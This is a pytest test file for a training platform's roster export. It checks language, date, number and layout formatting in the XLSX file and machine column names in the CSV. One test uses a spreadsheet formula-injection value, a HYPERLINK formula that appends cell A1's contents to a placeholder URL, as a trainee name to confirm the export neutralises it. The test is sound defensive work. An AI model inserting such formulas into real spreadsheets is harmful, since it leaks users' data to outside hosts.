"""The roster's XLSX is for people: their language, words for codes, real dates and numbers, no formula."""
import csv
import io
import zipfile
from datetime import date, timedelta

import pytest
from openpyxl import load_workbook

from app import db
from certificates.models import Certificate
from quizzes.models import QuizAttempt
from training.content import catalog
from training.models import ModuleProgress, utcnow

PROGRAMME = catalog().programmes["community-response"]
FIRST = catalog().modules[PROGRAMME.modules[0]]
EXPIRES = date.today() + timedelta(days=300)
HYPERLINK = '=HYPERLINK("http://x?"&A1,"Click")'


@pytest.fixture
def download(client, as_user, make_org, make_user, make_cohort):
    """Log in a coordinator speaking a language and fetch a roster file of one certified trainee."""

    def fetch(language: str = "en", kind: str = "xlsx", display_name: str = "Ann Busy"):
        org = make_org()
        ann = make_user(display_name=display_name, organisation_id=org.id)
        cohort = make_cohort(org=org, members=[ann])
        row = ModuleProgress.start(ann.id, FIRST.slug)
        row.completed_at = utcnow()
        db.session.add_all([row, Certificate(code=f"C{ann.id}", user_id=ann.id, programme_slug=PROGRAMME.slug,
                                             name_printed="Ann", language="en", expires_on=EXPIRES,
                                             current_key=f"{ann.id}:{PROGRAMME.slug}"),
                            QuizAttempt(user_id=ann.id, kind="module", target=FIRST.slug, language="en", seed=1,
                                        questions=[], options={}, rules={}, content_versions={}, score=85,
                                        passed=True, submitted_at=utcnow())])
        db.session.commit()
        as_user("coordinator", organisation_id=org.id, language=language)
        return client.get(f"/cohorts/{cohort.id}/roster.{kind}")

    return fetch


def sheet_of(response):
    """The workbook's only sheet, as Excel would read it."""
    return load_workbook(io.BytesIO(response.data)).active


def column(sheet, heading: str):
    """The trainee's cell under a heading."""
    headings = [cell.value for cell in sheet[1]]
    return sheet.cell(row=2, column=headings.index(heading) + 1)


def test_headings_are_in_the_coordinators_language_with_module_titles(download):
    headings = [cell.value for cell in sheet_of(download("fr"))[1]]
    assert headings[:3] == ["Participant", "Nom d'utilisateur", "Certificat"]
    assert FIRST.title["fr"] in headings and "username" not in headings and "stuck" not in headings


def test_status_values_are_words_in_the_language(download):
    sheet = sheet_of(download("fr"))
    assert column(sheet, "Certificat").value == "Valide"
    assert column(sheet, FIRST.title["fr"]).value == "Terminé"


def test_the_expiry_and_last_activity_are_date_cells(download):
    sheet = sheet_of(download())
    expiry, activity = column(sheet, "Valid until"), column(sheet, "Last activity")
    assert expiry.is_date and expiry.value.date() == EXPIRES and expiry.number_format == "yyyy-mm-dd"
    assert activity.is_date and activity.value.date() == utcnow().date()


def test_numbers_are_numbers_and_scores_percentages(download):
    sheet = sheet_of(download())
    assert column(sheet, "Modules completed").value == 1 and column(sheet, "Modules completed").data_type == "n"
    score = column(sheet, f"{FIRST.title['en']}: best score")
    assert score.value == pytest.approx(0.85) and score.number_format == "0%"


@pytest.mark.parametrize(("language", "rtl"), [("ar", True), ("fr", False)])
def test_the_arabic_sheet_reads_right_to_left(download, language, rtl):
    assert bool(sheet_of(download(language)).sheet_view.rightToLeft) is rtl


def test_the_header_row_is_frozen_and_bold(download):
    sheet = sheet_of(download())
    assert sheet.freeze_panes == "A2" and all(cell.font.b for cell in sheet[1])
    assert all(8 <= dimension.width <= 42 for dimension in sheet.column_dimensions.values())


def test_a_formula_name_is_a_plain_string_cell_with_no_quote(download):
    response = download(display_name=HYPERLINK)
    name = column(sheet_of(response), "Trainee")
    assert name.data_type == "s" and name.value == HYPERLINK
    xml = zipfile.ZipFile(io.BytesIO(response.data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml  # no formula element anywhere in the sheet


def test_the_csv_keeps_its_machine_column_names_and_codes_in_any_language(download):
    # A guard rather than a new behaviour: the CSV must not follow the XLSX into the downloader's language.
    lines = list(csv.reader(io.StringIO(download("fr", "csv").data.decode("utf-8-sig"))))
    modules = [name for slug in PROGRAMME.modules for name in (slug, f"{slug}_best")]
    assert lines[0] == ["username", "display_name", "modules_completed", "modules_total", *modules, "pre_test",
                        "final_best", "skills_signed", "skills_total", "certificate", "certificate_expires",
                        "last_activity", "stuck"]
    row = dict(zip(lines[0], lines[1], strict=True))
    assert (row["certificate"], row[FIRST.slug], row["stuck"]) == ("valid", "completed", "no")
    assert row["certificate_expires"] == EXPIRES.isoformat() and row[f"{FIRST.slug}_best"] == "85"
